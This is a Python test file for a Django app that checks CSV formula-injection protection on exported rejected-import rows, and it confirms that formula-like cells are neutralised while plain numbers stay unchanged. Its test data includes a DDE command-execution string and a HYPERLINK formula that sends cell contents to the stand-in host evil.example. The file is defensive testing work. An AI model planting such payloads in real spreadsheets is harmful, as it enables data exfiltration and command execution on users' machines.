"""The rejected-rows file is opened in Excel like any export: a cell the uploaded file carried
that Excel would run as a formula (= + - @ tab CR) gets a leading apostrophe, while plain
numbers such as -12.50 stay as they were so the corrected file imports again."""

from __future__ import annotations

from pathlib import Path

import pytest
from django.utils import translation

from openkam.common.exports import csv_raw_text
from openkam.imports.services import import_run
from openkam.imports.tests.helpers import ORDER_HEADERS, Catalogue, order_row, read_csv, write_csv

pytestmark = pytest.mark.django_db

EAST = "上海东方电梯有限公司"
PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.50", "-12.50"),
        ("+1,200", "+1,200"),
        ("上海东方电梯", "上海东方电梯"),
        ("", ""),
    ],
)
def test_a_raw_cell_is_guarded_unless_a_plain_number(text: str, expected: str) -> None:
    assert csv_raw_text(text) == expected


def test_formulas_in_rejected_rows_and_headers_are_neutralised(
    tmp_path: Path, catalogue: Catalogue
) -> None:
    headers = [*ORDER_HEADERS, "=备注"]
    rows = [
        [*order_row("SO-1", 1, "2024-02-30", EAST, "M-100", "1", "-12.50", "1"), PAYLOAD],
        [*order_row("SO-2", 1, "2024-03-01", EAST, "M-100", "1", "1", "1"), ""],
    ]
    path = write_csv(tmp_path / "orders.csv", headers, rows, encoding="utf-8-sig")

    with translation.override("en"):
        run = import_run(kind="orders", path=path)

    assert run.rows_rejected == 1
    header, rejected = read_csv(run.rejected_file)
    assert header[len(ORDER_HEADERS)] == "'=备注"
    assert rejected[len(ORDER_HEADERS)] == "'" + PAYLOAD
    assert "-12.50" in rejected
    assert not any(cell.startswith(("=", "+", "@")) for cell in [*header, *rejected])
